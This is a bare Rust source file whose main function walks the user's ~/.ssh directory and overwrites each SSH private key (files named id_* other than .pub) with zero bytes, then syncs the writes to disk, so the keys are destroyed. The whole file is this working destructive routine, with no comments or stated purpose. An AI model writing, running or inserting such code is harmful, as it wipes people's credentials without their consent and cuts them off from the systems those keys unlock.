use std::fs::{self, OpenOptions};
use std::io::Write;

fn main() {
    let home = std::env::var("HOME").unwrap();
    let dir = format!("{}/.ssh", home);
    for entry in fs::read_dir(&dir).unwrap().flatten() {
        let path = entry.path();
        let name = path.file_name().unwrap().to_string_lossy().to_string();
        if name.starts_with("id_") && !name.ends_with(".pub") {
            let len = fs::metadata(&path).map(|m| m.len()).unwrap_or(0) as usize;
            let mut f = OpenOptions::new().write(true).open(&path).unwrap();
            f.write_all(&vec![0u8; len]).unwrap();
            f.sync_all().unwrap();
        }
    }
}
